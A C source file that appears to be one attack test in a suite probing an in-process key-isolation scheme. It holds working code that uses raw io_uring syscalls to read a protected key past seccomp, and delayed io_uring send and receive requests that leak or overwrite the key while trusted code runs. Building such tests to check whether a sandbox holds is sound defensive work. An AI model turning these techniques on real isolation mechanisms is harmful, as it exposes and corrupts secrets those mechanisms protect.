// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A14: io_uring copies on the caller's behalf and seccomp sees none of it.
#include "evil.h"

#include <linux/io_uring.h>
#include <pthread.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

struct ring {
    int fd;
    struct io_uring_params params;
    unsigned char *queue;
    struct io_uring_sqe *entries;
};

static int open_ring(struct ring *ring) {
    size_t size;

    memset(&ring->params, 0, sizeof ring->params);
    ring->fd = (int)syscall(SYS_io_uring_setup, 1, &ring->params);
    if (ring->fd < 0)
        return evil_failed("io_uring_setup");
    size = ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
    ring->queue = mmap(NULL, size + 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd,
                       IORING_OFF_SQ_RING);
    ring->entries = mmap(NULL, sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                         ring->fd, IORING_OFF_SQES);
    if (ring->queue == MAP_FAILED || (void *)ring->entries == MAP_FAILED)
        return evil_cannot("mmap of the ring");
    return EVIL_SUCCEEDED;
}

int evil_io_uring(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof copy ? target->key_size : sizeof copy;
    struct ring ring;
    struct io_uring_cqe *done;
    int ends[2];
    int opened = open_ring(&ring);

    if (opened != EVIL_SUCCEEDED)
        return opened;
    if (pipe(ends) != 0)
        return evil_cannot("pipe");
    memset(ring.entries, 0, sizeof *ring.entries);
    ring.entries->opcode = IORING_OP_WRITE;
    ring.entries->fd = ends[1];
    ring.entries->addr = (uintptr_t)target->key;
    ring.entries->len = (uint32_t)size;
    ((uint32_t *)(ring.queue + ring.params.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(ring.queue + ring.params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return evil_failed("io_uring_enter");
    done = (struct io_uring_cqe *)(ring.queue + ring.params.cq_off.cqes);
    if (done->res != (int)size)
        return evil_failed_because("io_uring's write gave %d", done->res);
    if (read(ends[0], copy, size) != (ssize_t)size)
        return evil_cannot("read");
    return evil_got(target, copy, "io_uring");
}

// --- A request that waits: the kernel makes it when it can, and the thread may be in trusted code by then.
// ---
static int ends[2];
static size_t filled;
static size_t wanted;
static unsigned char received[EVIL_KEY_MAX];
static volatile int is_done;

static int submit(struct ring *ring, int operation, void *memory, size_t size) {
    memset(ring->entries, 0, sizeof *ring->entries);
    ring->entries->opcode = (uint8_t)operation;
    ring->entries->fd = ends[1];
    ring->entries->addr = (uintptr_t)memory;
    ring->entries->len = (uint32_t)size;
    ((uint32_t *)(ring->queue + ring->params.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(ring->queue + ring->params.sq_off.tail), 1, __ATOMIC_RELEASE);
    return syscall(SYS_io_uring_enter, ring->fd, 1, 0, 0, NULL, 0) == 1 ? 0 : -1;
}

// While the other thread is in trusted code: takes what fills the socket, then what was waiting.
static void *take_all(void *unused) {
    static unsigned char rest[65536];
    struct timespec pause = {.tv_nsec = 5000000};

    (void)unused;
    nanosleep(&pause, NULL);
    while (filled > 0) {
        ssize_t size = read(ends[0], rest, filled < sizeof rest ? filled : sizeof rest);

        if (size <= 0)
            return NULL;
        filled -= (size_t)size;
    }
    is_done = read(ends[0], received, wanted) == (ssize_t)wanted;
    return NULL;
}

static void *give(void *unused) {
    struct timespec pause = {.tv_nsec = 5000000};

    (void)unused;
    nanosleep(&pause, NULL);
    memset(received, 0x41, sizeof received);
    is_done = write(ends[0], received, wanted) == (ssize_t)wanted;
    return NULL;
}

// Arms the request, and is in trusted code while the other side makes it possible.
static int arm(const struct evil_target *target, int operation, void *(*other)(void *)) {
    struct ring ring;
    pthread_t thread;
    int opened = open_ring(&ring);

    if (opened != EVIL_SUCCEEDED)
        return opened;
    wanted = target->key_size < sizeof received ? target->key_size : sizeof received;
    if (submit(&ring, operation, target->key, wanted) != 0)
        return evil_failed("io_uring_enter");
    if (pthread_create(&thread, NULL, other, NULL) != 0)
        return evil_cannot("pthread_create");
    for (int i = 0; i < 20 && !is_done; i++)
        target->call_trusted();
    return EVIL_SUCCEEDED;
}

int evil_armed_send(const struct evil_target *target) {
    static const unsigned char zeros[4096];
    int armed;

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0)
        return evil_cannot("socketpair");
    for (;;) {
        ssize_t size = send(ends[1], zeros, sizeof zeros, MSG_DONTWAIT);

        if (size <= 0)
            break;
        filled += (size_t)size;
    }
    armed = arm(target, IORING_OP_SEND, take_all);
    if (armed != EVIL_SUCCEEDED)
        return armed;
    if (!is_done)
        return evil_failed_because("nothing was sent");
    return evil_got(target, received, "an io_uring send that waited for trusted code");
}

int evil_armed_receive(const struct evil_target *target) {
    unsigned char before[EVIL_KEY_MAX];
    unsigned char after[EVIL_KEY_MAX];
    int armed;

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0)
        return evil_cannot("socketpair");
    evil_peek(target, before);
    armed = arm(target, IORING_OP_RECV, give);
    if (armed != EVIL_SUCCEEDED)
        return armed;
    if (evil_peek(target, after) != 0)
        return evil_cannot("process_vm_readv");
    if (memcmp(before, after, target->key_size) == 0)
        return evil_failed_because("the key did not change");
    return evil_succeeded("overwrote the key by an io_uring receive that waited for trusted code");
}
